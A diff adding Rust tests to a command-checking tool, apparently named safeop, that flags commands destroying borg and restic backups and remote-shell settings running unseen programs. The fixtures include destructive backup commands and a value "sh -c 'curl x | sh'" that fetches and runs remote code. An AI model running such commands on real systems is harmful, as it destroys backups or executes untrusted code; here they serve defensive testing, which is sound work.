@@ -1,6 +1,7 @@
 //! Destroying backups through the built binary (`check` only: nothing runs): borg delete /
-//! prune / compact and restic forget / prune ask for the repository to be typed; their dry
-//! runs only read.
+//! prune / compact / recreate (in place) and restic forget / prune / rewrite --forget ask for
+//! the repository to be typed; their dry runs only read. A remote shell or backend command
+//! borg and restic would run asks too.
 
 mod common;
 use common::*;
@@ -78,5 +79,151 @@ fn dry_runs_are_allowed() {
             .go()
             .status(0)
             .stdout_lacks("backup-destroyed");
+    }
+}
+
+#[test]
+fn borg_recreate_in_place_asks_and_with_a_target_is_allowed() {
+    Test::new()
+        .args([
+            "check",
+            "--",
+            "borg",
+            "recreate",
+            "--exclude",
+            "*.iso",
+            "/srv/borg::mon",
+        ])
+        .go()
+        .status(3)
+        .stdout_has("backup-destroyed")
+        .stdout_has("rewrites archive mon of borg repository `/srv/borg` in place");
+    for argv in [
+        vec![
+            "borg",
+            "recreate",
+            "--target",
+            "mon-slim",
+            "-e",
+            "*.iso",
+            "/srv/borg::mon",
+        ],
+        vec!["borg", "recreate", "-n", "-e", "*.iso", "/srv/borg::mon"],
+    ] {
+        let mut a = vec!["check", "--"];
+        a.extend(argv.iter());
+        Test::new()
+            .args(&a)
+            .go()
+            .status(0)
+            .stdout_lacks("backup-destroyed");
+    }
+}
+
+#[test]
+fn restic_rewrite_forget_asks_and_plain_rewrite_is_allowed() {
+    Test::new()
+        .args([
+            "check",
+            "--",
+            "restic",
+            "-r",
+            "/srv/restic",
+            "rewrite",
+            "--forget",
+            "-e",
+            "*.iso",
+            "latest",
+        ])
+        .go()
+        .status(3)
+        .stdout_has("backup-destroyed")
+        .stdout_has(
+            "rewrites snapshot latest in restic repository `/srv/restic` and forgets the originals",
+        );
+    Test::new()
+        .args([
+            "check",
+            "--",
+            "restic",
+            "-r",
+            "/srv/restic",
+            "rewrite",
+            "-e",
+            "*.iso",
+            "latest",
+        ])
+        .go()
+        .status(0)
+        .stdout_lacks("backup-destroyed");
+}
+
+#[test]
+fn a_remote_shell_for_the_repository_asks_naming_the_program() {
+    for (argv, says) in [
+        (
+            vec!["borg", "--rsh", "ssh -i /root/k", "list", "nas:borg"],
+            "`--rsh` runs `ssh -i /root/k` to reach the repository",
+        ),
+        (
+            vec![
+                "env",
+                "BORG_RSH=ssh -oProxyCommand=x",
+                "borg",
+                "list",
+                "nas:borg",
+            ],
+            "`BORG_RSH` runs `ssh -oProxyCommand=x`",
+        ),
+        (
+            vec![
+                "restic",
+                "-r",
+                "sftp:nas:/srv/restic",
+                "-o",
+                "sftp.command=ssh nas -s sftp",
+                "snapshots",
+            ],
+            "`-o sftp.command` runs `ssh nas -s sftp`",
+        ),
+    ] {
+        let mut a = vec!["check", "--"];
+        a.extend(argv.iter());
+        Test::new()
+            .args(&a)
+            .go()
+            .status(3)
+            .stdout_has("runs-code-safeop-cannot-see")
+            .stdout_has(says);
+    }
+}
+
+/// The caller's own environment counts as a wrapper's assignment would: `RSYNC_RSH` or
+/// `BORG_RSH` exported in the shell make the command run a program safeop cannot see.
+#[test]
+fn a_remote_shell_set_in_the_caller_s_environment_asks() {
+    for (var, argv) in [
+        (
+            "RSYNC_RSH",
+            vec!["rsync", "-a", "src/", "backup.example:/srv/"],
+        ),
+        (
+            "BORG_RSH",
+            vec!["borg", "list", "ssh://backup.example/./repo"],
+        ),
+    ] {
+        Test::new()
+            .env(var, "sh -c 'curl x | sh'")
+            .args(["check", "--"])
+            .args(&argv)
+            .go()
+            .status(3)
+            .stdout_has("runs-code-safeop-cannot-see");
+        Test::new()
+            .env_remove(var)
+            .args(["check", "--"])
+            .args(&argv)
+            .go()
+            .stdout_lacks("runs-code-safeop-cannot-see");
     }
 }
